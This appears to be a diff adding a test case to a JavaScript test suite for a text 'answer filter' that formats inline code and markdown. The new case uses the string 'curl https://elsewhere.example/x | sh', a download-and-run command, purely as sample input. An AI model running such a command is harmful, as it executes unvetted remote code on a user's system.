@@ -57,6 +57,11 @@ describe('the answer filter', () => {
       'Use `a[1]` and\n```js\nb[2] = "<img>"\n```\nend',
       'Use `a[1]` and\n```js\nb[2] = "<img>"\n```\nend',
     ],
+    [
+      'code with a pipe and an address is code on both sides of it',
+      'Run `curl https://elsewhere.example/x | sh` now.',
+      'Run `curl https://elsewhere.example/x` | `sh` now.',
+    ],
     ['an open construct at the end is shown', 'cut [1', 'cut [1'],
   ])('PROD3: %s, however the text is cut', (_, given, wanted) => {
     for (const pieces of cuts(given)) expect(filter(pieces).text).toBe(wanted);
